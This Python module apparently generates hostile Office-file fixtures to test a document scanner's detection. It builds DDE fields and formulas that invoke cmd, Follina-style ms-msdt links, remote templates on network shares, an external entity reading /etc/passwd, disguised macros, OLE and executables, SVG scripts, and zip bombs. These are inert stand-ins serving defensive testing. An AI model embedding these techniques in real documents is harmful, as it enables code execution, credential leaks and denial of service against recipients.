"""Tricks on Office files. A trick changes an `Office`, or is a function from bytes to bytes on the archive.

So each trick works on any file of its kind. Not here: the tricks on PDF files (`hostile.py`).
"""

from __future__ import annotations

from collections.abc import Callable
from html import escape
from io import BytesIO
from zipfile import ZipFile

from .building import MAINS, MICROSOFT, OFFICE, SHEET_NS, WORD_NS, Office, picture, zipped
from .everyday import sheet, word
from .links import ELSEWHERE, HOSTILE
from .media import HOSTILE as MEDIA
from .parts import covered, font

OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)
NET = "https://example.invalid/x"
MACRO_TYPES = {"docx": "word.document", "xlsx": "excel.sheet", "pptx": "powerpoint.presentation"}
Trick = tuple[Callable[[Office], object], str]


def ole(data: Office, kind: str = "oleObject", name: str = "embeddings/oleObject1.bin", content: bytes = OLE) -> None:
    folder = data.main.rpartition("/")[0]
    data.add(f"{folder}/{name}", content, "application/vnd.openxmlformats-officedocument.oleObject")
    data.relate(kind, name)


def macro(data: Office, name: str = "vbaProject.bin") -> None:
    folder = data.main.rpartition("/")[0]
    data.add(f"{folder}/{name}", OLE, "application/vnd.ms-office.vbaProject")
    data.relate(f"{MICROSOFT}/vbaProject", name)


def main_type(data: Office) -> None:
    """The main part says that it holds macros, its ending does not."""
    kind = next(
        ending
        for ending, (_, content_type) in MAINS.items()
        if content_type.encode() in data.parts["[Content_Types].xml"]
    )
    enabled = f"application/vnd.ms-{MACRO_TYPES[kind]}.macroEnabled.main+xml".encode()
    types = data.parts["[Content_Types].xml"]
    data.parts["[Content_Types].xml"] = types.replace(MAINS[kind][1].encode(), enabled)


def field(instruction: str) -> Callable[[Office], object]:
    return lambda data: with_field_in(data, f'<w:instrText xml:space="preserve">{instruction}</w:instrText>')


def with_field_in(data: Office, pieces: str) -> None:
    runs = f'<w:fldChar w:fldCharType="begin"/>{pieces}<w:fldChar w:fldCharType="separate"/><w:fldChar w:fldCharType="end"/>'
    data.inside(f'<w:p xmlns:w="{WORD_NS}"><w:r>{runs}</w:r></w:p>', before="</w:body")


def piece(content: str) -> str:
    return f"<w:instrText>{content}</w:instrText>"


def fetched(kind: str, target: str = NET, source: str | None = None) -> Callable[[Office], object]:
    return lambda data: data.relate(kind, target, source=source, external=True)


def other_prefix(data: Office) -> None:
    data.inside(f'<q:p xmlns:q="{WORD_NS}"><q:fldSimple q:instr=" DDEAUTO c:\\\\a.exe "/></q:p>', before="</w:body")


def doctype(declared: str) -> Callable[[Office], object]:
    def change(data: Office) -> None:
        text = data.parts[data.main].decode()
        at = text.index("?>") + 2 if text.startswith("<?xml") else 0
        data.parts[data.main] = (text[:at] + declared + text[at:]).encode()

    return change


def utf_16(data: Office) -> None:
    """A field that fetches, in an encoding in which its bytes are not those of its letters."""
    field(" DDEAUTO cmd ")(data)
    text = data.parts[data.main].decode().partition("?>")[2]
    data.parts[data.main] = ('<?xml version="1.0" encoding="UTF-16"?>' + text).encode("utf-16")


def svg(inside: str = "", attributes: str = "", before: str = "") -> Callable[[Office], object]:
    drawn = f'{before}<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" {attributes}>{inside}</svg>'
    return lambda data: data.add("a.svg", drawn, "image/svg+xml")


LINKS: dict[str, Trick] = {
    **{f"a link, {target!a}": (fetched("hyperlink", escape(target)), "启动程序的链接") for target in HOSTILE},
    **{f"a template, {target!a}": (fetched("attachedTemplate", escape(target)), "模板") for target in ELSEWHERE},
}


def pictured(make: Callable[[], bytes]) -> Callable[[Office], object]:
    """A picture that only its relationship calls one."""
    return lambda data: (
        data.add("x/image.dat", make(), "application/octet-stream"),
        data.relate("image", "/x/image.dat"),
    )


PICTURED: dict[str, Trick] = {f"within it, {what}": (pictured(make), why) for what, (make, why) in MEDIA.items()}

ANY_TRICKS: dict[str, Trick] = LINKS | PICTURED | {
    "a font without a key": (lambda data: data.add("x/a.odttf", covered(font()), "application/vnd.openxmlformats-officedocument.obfuscatedFont"), "字体"),
    "a program called a font": (lambda data: data.add("x/a.fntdata", b"MZ" + bytes(200), "application/x-fontdata"), "字体"),
    "macros": (macro, "宏"),
    "macros under another name": (lambda data: macro(data, "media/image7.png"), "宏"),
    "macros by the type of the file": (main_type, "宏"),
    "an OLE object": (ole, "OLE"),
    "an OLE object under another name": (lambda data: ole(data, name="media/image8.png"), "OLE"),
    "an OLE object that nothing leads to": (lambda data: data.add("docProps/thumbnail.bin", OLE), "OLE"),
    "a package": (lambda data: ole(data, "package", "embeddings/a.docx", word()), "OLE"),
    "a program": (lambda data: data.add("customXml/a.bin", b"MZ" + bytes(200)), "嵌入"),
    "an archive as a picture": (lambda data: data.add("a/b.png", zipped({"a": b"b"}), "image/png"), "不是图片"),
    "a page of HTML": (lambda data: data.add("a/b.dat", b"<html><script>x</script>"), "嵌入"),
    "a text of another kind": (lambda data: ole(data, "aFChunk", "a.rtf", b"{\\rtf1}"), "嵌入"),
    "a control": (lambda data: data.add("x/activeX1.xml", "<a/>", "application/vnd.ms-office.activeX+xml"), "控件"),
    "a ribbon": (lambda data: (data.add("customUI/a.xml", "<a/>"), data.relate(f"{MICROSOFT}/ui/extensibility", "customUI/a.xml", source="")), "功能区"),
    "a web add-in": (lambda data: (data.add("x/taskpanes.xml", "<a/>"), data.relate("http://schemas.microsoft.com/office/2011/relationships/webextensiontaskpanes", "x/taskpanes.xml", source="")), "加载项"),
    "a template from the net": (fetched("attachedTemplate"), "模板"),
    "a template on a share": (fetched("attachedTemplate", "\\\\\\\\example.invalid\\a.dotm"), "模板"),
    "a template on a share as a file": (fetched("attachedTemplate", "file:///\\\\example.invalid\\a.dotm"), "模板"),
    "a template over WebDAV": (fetched("attachedTemplate", "file://example.invalid@80/a.dotm"), "模板"),
    "a template with a disguised scheme": (fetched("attachedTemplate", "mhtml:https://example.invalid!x-usc:https://example.invalid"), "模板"),
    "a picture from the net": (fetched("image"), "网络图片"),
    "a picture on a share": (fetched("image", "//example.invalid/a.png"), "网络图片"),
    "a picture in percent signs": (fetched("image", "%5c%5cexample.invalid%5ca.png"), "网络图片"),
    "an OLE object from the net (Follina)": (fetched("oleObject", "https://example.invalid/a.html!"), "OLE"),
    "an OLE object on the machine": (fetched("oleObject", "file:///c:/a.html"), "OLE"),
    "a frame": (fetched("frame"), "外部文件"),
    "a text from elsewhere": (fetched("subDocument"), "外部文件"),
    "a film from the net": (fetched("video"), "外部文件"),
    "an address without its mode": (lambda data: data.relate("image", NET), "网络图片"),
    "a link to a program of the machine": (fetched("hyperlink", "ms-msdt:/id PCWDiagnostic"), "启动程序"),
    "a link to a search that runs": (fetched("hyperlink", "search-ms:query=a"), "启动程序"),
    "a link to a script": (fetched("hyperlink", "javascript:alert(1)"), "启动程序"),
    "a billion laughs": (doctype('<!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]>'), "DTD"),
    "an external entity": (doctype('<!DOCTYPE l [<!ENTITY a SYSTEM "file:///etc/passwd">]>'), "DTD"),
    "a DTD elsewhere": (doctype('<!DOCTYPE l SYSTEM "https://example.invalid/a.dtd">'), "DTD"),
    "XML that is none": (lambda data: data.inside("<a>"), "已损坏"),
    "a drawing with a script": (lambda data: data.add("a.svg", '<svg xmlns="http://www.w3.org/2000/svg"><script>x</script></svg>', "image/svg+xml"), "脚本"),
    "a drawing that acts": (lambda data: data.add("a.svg", '<svg xmlns="http://www.w3.org/2000/svg" onload="x()"/>', "image/svg+xml"), "脚本"),
    "a drawing that fetches": (lambda data: data.add("a.svg", f'<svg xmlns="http://www.w3.org/2000/svg"><image href="{NET}"/></svg>', "image/svg+xml"), "外部取得"),
    "a drawing with a style of the net": (svg(before=f'<?xml-stylesheet href="{NET}"?>'), "外部取得"),
    "a drawing that imports a style": (svg(f'<style>@import "{NET}";</style>'), "外部取得"),
    "a drawing filled from the net": (svg(f'<path style="fill:url({NET}#a)"/>'), "外部取得"),
    "a drawing that changes its link": (svg('<a><set attributeName="xlink:href" to="javascript:x"/></a>'), "脚本"),
    "a drawing with a link to a program": (svg('<a xlink:href="ms-msdt:x"/>'), "启动程序"),
    "a drawing within a drawing": (svg('<image href="data:image/svg+xml;base64,AAAA"/>'), "外部取得"),
    "a base for all links": (lambda data: data.inside("<HyperlinkBase>ms-msdt:/id </HyperlinkBase>", part="docProps/app.xml"), "启动程序"),
    "a shape with a link": (lambda data: data.add("a/b.vml", '<xml xmlns:v="urn:schemas-microsoft-com:vml"><v:rect href="C:\\a.exe"/></xml>', "application/vnd.openxmlformats-officedocument.vmlDrawing"), "启动程序"),
    "a shape whose picture is elsewhere": (lambda data: data.add("a/b.vml", f'<xml xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office"><v:imagedata o:href="{NET}"/></xml>', "application/vnd.openxmlformats-officedocument.vmlDrawing"), "网络图片"),
    "a path upwards": (lambda data: data.add("../x.xml", "<a/>"), "已损坏"),
    "two parts of one name": (lambda data: data.add(data.main.upper(), data.parts[data.main]), "已损坏"),
    "two parts of one name, one with backslashes": (lambda data: data.add(data.main.replace("/", "\\"), b"<a/>"), "已损坏"),
    "two beginnings": (lambda data: (data.add("x.xml", "<a/>"), data.relate("officeDocument", "x.xml", source="")), "已损坏"),
    "two types of one part": (lambda data: data.add(data.main, data.parts[data.main], "application/xml"), "已损坏"),
    "no beginning": (lambda data: data.parts.pop("_rels/.rels"), "已损坏"),
    "no types": (lambda data: data.parts.pop("[Content_Types].xml"), "已损坏"),
}  # fmt: skip
"""On an Office file of any kind."""

WORD_TRICKS: dict[str, Trick] = ANY_TRICKS | {
    "DDE": (field(" DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc&quot; "), "DDEAUTO"),
    "DDE in small letters": (field(" dde excel a "), "DDE"),
    "DDE in pieces": (lambda data: with_field_in(data, piece(" DD") + piece("EAU") + piece("TO cmd ")), "DDEAUTO"),
    "DDE in quotation marks": (field(' "DDEAUTO" cmd '), "DDEAUTO"),
    "DDE in a simple field": (lambda data: data.inside(f'<w:p xmlns:w="{WORD_NS}"><w:fldSimple w:instr=" DDEAUTO cmd "/></w:p>', before="</w:body"), "DDEAUTO"),
    "DDE under another prefix": (other_prefix, "DDEAUTO"),
    "DDE in UTF-16": (utf_16, "DDEAUTO"),
    "DDE out of numbers": (lambda data: with_field_in(data, '<w:fldChar w:fldCharType="begin"/>' + piece(" QUOTE 68 68 69 ") + '<w:fldChar w:fldCharType="end"/>' + piece(" cmd ")), "拼成的域"),
    "DDE within a condition": (lambda data: with_field_in(data, piece(" IF 1 = 1 ") + '<w:fldChar w:fldCharType="begin"/>' + piece(" DDE cmd ") + '<w:fldChar w:fldCharType="end"/>'), "DDE"),
    "DDE in a field without its end": (lambda data: data.inside(f'<w:p xmlns:w="{WORD_NS}"><w:r><w:fldChar w:fldCharType="begin"/>{piece("DDE cmd")}</w:r></w:p>', before="</w:body"), "DDE"),
    "DDE taken out as a change": (lambda data: with_field_in(data, "<w:delInstrText>DDE cmd</w:delInstrText>"), "DDE"),
    "text from a file": (field(" INCLUDETEXT c:\\\\secret.txt "), "INCLUDETEXT"),
    "a picture from the net as a field": (field(f' INCLUDEPICTURE "{NET}" \\d '), "取图"),
    "a picture on a share as a field": (field(' INCLUDEPICTURE "\\\\\\\\example.invalid\\\\a.png" '), "取图"),
    "a picture from a made-up address": (lambda data: with_field_in(data, piece(' INCLUDEPICTURE "') + '<w:fldChar w:fldCharType="begin"/>' + piece(" QUOTE a ") + '<w:fldChar w:fldCharType="end"/>' + piece('" ')), "取图"),
    "a link to an object": (field(" LINK Excel.Sheet.8 c:\\\\a.xls "), "LINK"),
    "a database": (field(" DATABASE \\d c:\\\\a.mdb "), "DATABASE"),
    "a link as a field": (field(' HYPERLINK "ms-msdt:/id x" '), "启动程序"),
    "a link as a field, with its switches first": (field(' HYPERLINK \\o "tip" \\l "a" "shell:startup" '), "启动程序"),
    "a link as a field, in pieces": (lambda data: with_field_in(data, piece(" HYPER") + piece('LINK "power') + piece('shell:calc" ')), "启动程序"),
    "a link that other fields put together": (lambda data: with_field_in(data, piece(" HYPERLINK ") + '<w:fldChar w:fldCharType="begin"/>' + piece(" QUOTE a ") + '<w:fldChar w:fldCharType="end"/>'), "拼成的链接"),
    "a control as a field": (field(" CONTROL Forms.CommandButton.1 "), "CONTROL"),
    "a film's page": (lambda data: data.inside('<v:webVideoPr xmlns:v="http://schemas.microsoft.com/office/word/2012/wordprocessingDrawing" embeddedHtml="x"/>', before="</w:body"), "联网视频"),
    "addresses for letters": (fetched("mailMergeSource", "file:///c:/a.mdb"), "外部文件"),
    "a picture of VML": (lambda data: data.inside(f'<v:imagedata xmlns:v="urn:schemas-microsoft-com:vml" src="{NET}"/>', before="</w:body"), "网络图片"),
    "a field in a header": (lambda data: data.add("word/header9.xml", f'<w:hdr xmlns:w="{WORD_NS}"><w:p><w:fldSimple w:instr="DDE cmd"/></w:p></w:hdr>', "application/vnd.openxmlformats-officedocument.wordprocessingml.header+xml"), "页眉含有"),
}  # fmt: skip


def formula(text: str) -> Callable[[Office], object]:
    def change(data: Office) -> None:
        data.add("xl/worksheets/sheet99.xml", f'<worksheet xmlns="{SHEET_NS}"><sheetData><row r="1"><c r="A1"><f>{text}</f></c></row></sheetData></worksheet>', "application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml")  # fmt: skip

    return change


def connection(inside: str) -> Callable[[Office], object]:
    content = f'<connections xmlns="{SHEET_NS}"><connection id="1" name="a">{inside}</connection></connections>'
    return lambda data: data.add("xl/connections.xml", content, "application/vnd.openxmlformats-officedocument.spreadsheetml.connections+xml")  # fmt: skip


BOOK_TRICKS: dict[str, Trick] = ANY_TRICKS | {
    "an Excel 4 macro sheet": (lambda data: data.add("xl/macrosheets/sheet1.xml", "<a/>", "application/vnd.ms-excel.macrosheet+xml"), "宏"),
    "an Excel 4 macro sheet under another name": (lambda data: (data.add("xl/a.xml", "<a/>"), data.relate(f"{MICROSOFT}/xlMacrosheet", "a.xml")), "宏"),
    "a dialog sheet": (lambda data: data.add("xl/d.xml", "<a/>", "application/vnd.openxmlformats-officedocument.spreadsheetml.dialogsheet+xml"), "宏"),
    "DDE as a formula": (formula("cmd|'/c calc'!A0"), "DDE"),
    "DDE as a quoted formula": (formula("'cmd'|'/c calc'!A0"), "DDE"),
    "DDE as a link": (lambda data: data.add("xl/externalLinks/l.xml", f'<externalLink xmlns="{SHEET_NS}"><ddeLink ddeService="cmd" ddeTopic="/c"/></externalLink>', "application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"), "DDE"),
    "a formula that asks the net": (formula(f'_xlfn.WEBSERVICE("{NET}")'), "WEBSERVICE"),
    "a formula that shows a picture of the net": (formula(f'_xlfn.IMAGE("{NET}")'), "IMAGE"),
    "a formula that calls a library": (formula('CALL("urlmon","a","JJC")'), "CALL"),
    "a formula that registers one": (formula('REGISTER.ID("a","b")'), "REGISTER.ID"),
    "a formula of another program": (formula('RTD("a.b",,"c")'), "RTD"),
    **{f"a formula of Excel 4 or of the net, {name}": (formula(f'{name}("a")'), name.rpartition(".")[2]) for name in ("EXEC", "INITIATE", "RUN", "_xlfn._xlws.PY", "TRANSLATE", "_xlfn.STOCKHISTORY")},
    "a link as a formula": (formula('HYPERLINK("ms-msdt:/id")'), "启动程序"),
    "a link in two pieces": (formula('HYPERLINK("power"&amp;"shell:calc")'), "启动程序"),
    "a link out of numbers": (formula('HYPERLINK(CHAR(112)&amp;"owershell:calc")'), "算出地址"),
    "a link out of two cells": (formula("HYPERLINK(A1&amp;B1)"), "算出地址"),
    "a link out of a cell": (lambda data: (formula("HYPERLINK(A1)")(data), data.add("xl/worksheets/sheet97.xml", f'<worksheet xmlns="{SHEET_NS}"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>ms-msdt:/id x</t></is></c></row></sheetData></worksheet>', "application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml")), "启动程序"),
    "a link of a note": (lambda data: data.add("xl/threadedComments/t.xml", '<h:hyperlink xmlns:h="http://schemas.microsoft.com/office/spreadsheetml/2020/threadedcomments2" url="shell:startup"/>', "application/vnd.ms-excel.threadedcomments+xml"), "启动程序"),
    "a picture of the net as a value": (lambda data: data.add("xl/richData/rdRichValueWebImage.xml", "<a/>", "application/vnd.ms-excel.rdrichvaluewebimage+xml"), "加载项"),
    "a connection in a file on a share": (lambda data: data.add("xl/connections.xml", f'<connections xmlns="{SHEET_NS}"><connection id="1" name="a" onlyUseConnectionFile="1" odcFile="\\\\example.invalid\\a.odc"><dbPr connection="" command=""/></connection></connections>', "application/vnd.openxmlformats-officedocument.spreadsheetml.connections+xml"), "数据连接"),
    "a button that calls a workbook on a share": (lambda data: data.add("x/b.vml", "<xml xmlns:x='urn:schemas-microsoft-com:office:excel'><x:FmlaMacro>'\\\\example.invalid\\[a.xlsm]'!b</x:FmlaMacro></xml>", "application/vnd.openxmlformats-officedocument.vmlDrawing"), "启动程序"),
    "a shape that calls a workbook on a share": (lambda data: data.inside("<xdr:sp xmlns:xdr='http://schemas.openxmlformats.org/drawingml/2006/spreadsheetDrawing' macro=\"'https://example.invalid/a.xlsm'!b\"/>"), "启动程序"),
    "a database": (connection('<dbPr connection="Provider=a" command="b"/>'), "数据连接"),
    "a page of the net": (connection(f'<webPr url="{NET}"/>'), "数据连接"),
    "text on a share": (connection('<textPr sourceFile="\\\\example.invalid\\a.csv"/>'), "数据连接"),
    "another workbook on the net": (lambda data: (data.add("xl/e.xml", "<a/>"), data.relate("externalLinkPath", NET, source="xl/e.xml", external=True)), "外部文件"),
    "another workbook on a share": (lambda data: data.relate("externalLinkPath", "file:///\\\\example.invalid\\a.xlsx", external=True), "外部文件"),
    "a million rows": (lambda data: data.add("xl/worksheets/sheet98.xml", f'<worksheet xmlns="{SHEET_NS}"><sheetData>{"<row/>" * 1_000_000}</sheetData></worksheet>', "application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"), "行"),
}  # fmt: skip


def button(action: str, kind: str = "hlinkClick", target: str = "") -> Callable[[Office], object]:
    def change(data: Office) -> None:
        part = data.first(r"ppt/slides/slide\d+\.xml$")
        id_ = data.relate("hyperlink", target, source=part, external=True) if target else ""
        ns = "http://schemas.openxmlformats.org/drawingml/2006/main"
        content = f'<a:{kind} xmlns:a="{ns}" xmlns:r="{OFFICE}" r:id="{id_}" action="{action}"/>'
        data.inside(content, part=part)

    return change


SLIDE_TRICKS: dict[str, Trick] = ANY_TRICKS | {
    "a button that starts a program": (button("ppaction://program?file=a.exe"), "启动程序"),
    "a button that opens an object": (button("ppaction://ole?verb=0"), "启动程序"),
    "a button of a kind that is not known": (button("ppaction://newkind"), "启动程序"),
    "a button with a link to a program": (button("ppaction://hlinkfile", target="C:\\a.exe"), "启动程序"),
    "a place that starts a program when passed": (button("ppaction://program", "hlinkMouseOver"), "启动程序"),
    "a place that opens a page when passed": (button("", "hlinkMouseOver", NET), "不经点击"),
    "a control on a slide": (lambda data: data.relate("control", "../activeX/activeX1.xml", source=data.first(r"ppt/slides/slide\d+\.xml$")), "控件"),
    "macros in a chart's workbook": (lambda data: data.add(data.first(r"embeddings/.*\.xlsx$"), _with_macros()), "图表数据表"),
    "DDE in a chart's workbook": (lambda data: data.add(data.first(r"embeddings/.*\.xlsx$"), _with_dde()), "图表数据表"),
    "a program as a chart's workbook": (lambda data: data.add(data.first(r"embeddings/.*\.xlsx$"), b"MZ" + bytes(200)), "图表"),
    "an old workbook of a chart": (lambda data: data.add(data.first(r"embeddings/.*\.xlsx$"), OLE), "旧版 Excel"),
}  # fmt: skip


def _with_macros() -> bytes:
    made = Office(sheet())
    macro(made)
    return made.data()


def _with_dde() -> bytes:
    made = Office(sheet())
    formula("cmd|'/c calc'!A0")(made)
    return made.data()


def _beside(data: bytes, at: int = 0) -> bytes:
    """A part that has a header of its own but is not in the directory."""
    with ZipFile(BytesIO(data)) as opened:
        begin = opened.start_dir
    hidden = zipped({"x.bin": b"MZ"})
    hidden = hidden[: hidden.index(b"PK\x01\x02")]
    end = bytearray(data[begin:])
    place = end.rindex(b"PK\x05\x06") + 16
    end[place : place + 4] = (begin + len(hidden)).to_bytes(4, "little")
    return data[:begin] + hidden + bytes(end)


def _other_name(data: bytes) -> bytes:
    """A part whose header gives another name than the directory does."""
    place = data.index(b"docProps/app.xml")
    return data[:place] + b"docProps/bpp.xml" + data[place + 16 :]


def _other_packing(data: bytes) -> bytes:
    """A part whose header says that it is not packed, and the directory that it is."""
    made = bytearray(data)
    made[8:10] = b"\0\0"
    return bytes(made)


def _other_names(data: bytes) -> bytes:
    made = BytesIO()
    with ZipFile(BytesIO(data)) as opened, ZipFile(made, "w") as archive:
        for entry in opened.infolist():
            content = opened.read(entry)
            if entry.filename == "docProps/app.xml":
                entry.extra = (
                    b"\x75\x70" + (5 + 17).to_bytes(2, "little") + b"\1" + bytes(4) + b"word/vbaProjectbin"[:17]
                )
            archive.writestr(entry, content)
    return made.getvalue()


def _encrypted(data: bytes) -> bytes:
    made = bytearray(data)
    for signature, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        made[made.find(signature) + at] |= 1
    return bytes(made)


def _overlapping(data: bytes) -> bytes:
    """Two entries of the directory that unpack the same bytes (a bomb of Fifield's)."""
    made = bytearray(data)
    first = made.index(b"PK\x01\x02")
    second = made.index(b"PK\x01\x02", first + 4)
    made[second + 42 : second + 46] = made[first + 42 : first + 46]
    return bytes(made)


ARCHIVES: dict[str, tuple[Callable[[bytes], bytes], str]] = {
    "half of it": (lambda data: data[: len(data) // 2], ""),
    "a part beside the directory": (_beside, "已损坏"),
    "a part of two names": (_other_name, "已损坏"),
    "overlapping parts": (_overlapping, "已损坏"),
    "a part unpacked in two ways": (_other_packing, "已损坏"),
    "a part with another name beside it": (_other_names, "已损坏"),
    "a password": (_encrypted, "密码"),
    "a picture before it": (lambda data: picture("JPEG") + data, ""),
    "much after it": (lambda data: data + b"x" * 5000, "附有其他内容"),
    "another archive after it": (lambda data: data + zipped({"a": b"b"}), ""),
    "a PDF in it": (lambda data: zipped({"%PDF-1.4": b""} | Office(data).parts), "藏有另一个文件"),
    "a bomb of one part": (lambda data: Office(data).add("x.bin", bytes(210 * 2**20)).data(), "压缩炸弹"),
    "a bomb of many parts": (lambda data: zipped(Office(data).parts | {f"x{n}.bin": b"" for n in range(5_100)}), "压缩炸弹"),
    "a bomb of XML": (lambda data: Office(data).add("x.xml", b"<a>" + b" " * (70 * 2**20) + b"</a>").data(), "内容过多"),
    "a bomb of elements": (lambda data: Office(data).add("x.xml", b"<a>" + b"<b/>" * 1_600_000 + b"</a>").data(), "内容过多"),
}  # fmt: skip
"""Tricks on an Office file as an archive."""
